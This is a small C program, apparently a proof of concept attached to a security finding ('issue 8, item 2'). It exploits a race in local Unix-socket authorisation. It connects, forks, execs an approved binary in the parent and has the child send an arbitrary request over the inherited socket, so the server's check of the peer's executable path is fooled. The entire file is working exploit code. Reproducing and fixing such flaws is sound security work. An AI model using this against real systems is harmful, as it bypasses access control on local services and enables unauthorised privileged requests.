/* exec after connect (issue 8, item 2): connect, fork a child that keeps the socket, then exec an
 * approved binary in the parent; the child sends the request once the parent runs the approved
 * binary, and prints the response. Usage: exec_race SOCKET APPROVED REQUEST */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/un.h>

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    int s = socket(AF_UNIX, SOCK_STREAM, 0); /* not close-on-exec: survives the exec */
    struct sockaddr_un a = { .sun_family = AF_UNIX };
    strncpy(a.sun_path, argv[1], sizeof a.sun_path - 1);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("connect"); return 3; }
    char self[4096]; ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) return 3;
    self[n] = 0;
    pid_t parent = getpid();
    if (fork() == 0) {
        char link[64], now[4096];
        snprintf(link, sizeof link, "/proc/%d/exe", (int)parent);
        for (int i = 0; i < 1000; i++) { /* wait until the parent runs the approved binary */
            n = readlink(link, now, sizeof now - 1);
            if (n > 0) { now[n] = 0; if (strcmp(now, self) != 0) break; }
            usleep(5000);
        }
        usleep(50000);
        dprintf(s, "%s\n", argv[3]);
        char resp[65536]; size_t got = 0; ssize_t c;
        while (got < sizeof resp - 1 && (c = read(s, resp + got, sizeof resp - 1 - got)) > 0) {
            got += c;
            if (memchr(resp, '\n', got)) break;
        }
        fwrite(resp, 1, got, stdout);
        fflush(stdout);
        _exit(0);
    }
    execl(argv[2], argv[2], (char *)NULL); /* the approved binary: it waits on standard input */
    perror("exec");
    return 3;
}
